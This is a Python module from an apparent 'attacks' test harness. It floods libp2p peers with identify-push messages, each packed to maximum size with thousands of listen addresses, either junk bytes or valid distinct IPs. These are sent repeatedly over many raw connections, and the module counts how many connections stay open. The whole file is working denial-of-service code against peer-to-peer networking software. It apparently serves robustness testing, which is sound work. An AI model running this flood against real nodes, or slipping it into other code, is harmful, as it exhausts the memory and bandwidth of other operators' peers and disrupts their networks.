"""Attacks with messages of identify: very many addresses in each.

Comes in: an Arena. Goes out: pushes of identify; counts of those sent.
"""

from __future__ import annotations

import asyncio

from attacks.arena import Arena
from attacks.rawpeer import DATA, FIN, WINDOW, RawPeer, frame, opening

PUSH = "/ipfs/id/push/1.0.0"
MESSAGES, MESSAGE_BYTES = 10, 8190
"""As many messages of the largest size as one identify may have."""
BODY_BYTES = 16 * 1024


def _varint(number: int) -> bytes:
    out = bytearray()
    while number > 127:
        out.append(number & 127 | 128)
        number >>= 7
    return bytes([*out, number])


def _addresses(first: int, is_valid: bool) -> bytes:
    """One message full of listen addresses: of one byte each, or valid and all different."""
    out = bytearray()
    number = first
    while len(out) < MESSAGE_BYTES - 10:
        ip = (11 << 24 | number % (1 << 24)).to_bytes(4, "big")
        addr = b"\x04" + ip + b"\x06\x10\x00" if is_valid else b"\x00"
        out += b"\x12" + bytes([len(addr)]) + addr
        number += 1
    return _varint(len(out)) + bytes(out)


def told(number: int, is_valid: bool) -> bytes:
    """The messages of one identify, as long as they may be."""
    return b"".join(_addresses((number * MESSAGES + at) * 1000, is_valid) for at in range(MESSAGES))


async def identify(arena: Arena) -> None:
    """`conns` connections that each push every `every` seconds; `valid=1`: with addresses that are kept."""
    is_valid = bool(arena.count("valid", 0))
    peers = await arena.peers(arena.count("conns", 1))
    stream = 1
    while arena.left_s:
        for number, peer in enumerate(peers):
            push(peer, stream, told(number + stream, is_valid))
            arena.counts["messages"] += 1
        stream += 2
        await asyncio.sleep(min(arena.number("every", 1.0), arena.left_s))
    arena.counts["held at the end"] = sum(peer.is_open for peer in peers)


def push(peer: RawPeer, stream: int, told: bytes) -> None:
    """Pushes these messages."""
    out = opening(stream, PUSH)
    for at in range(0, len(told), BODY_BYTES):
        body = told[at : at + BODY_BYTES]
        out += frame(DATA, 0, stream, len(body), body)
    peer.write(out + frame(WINDOW, FIN, stream, 0))
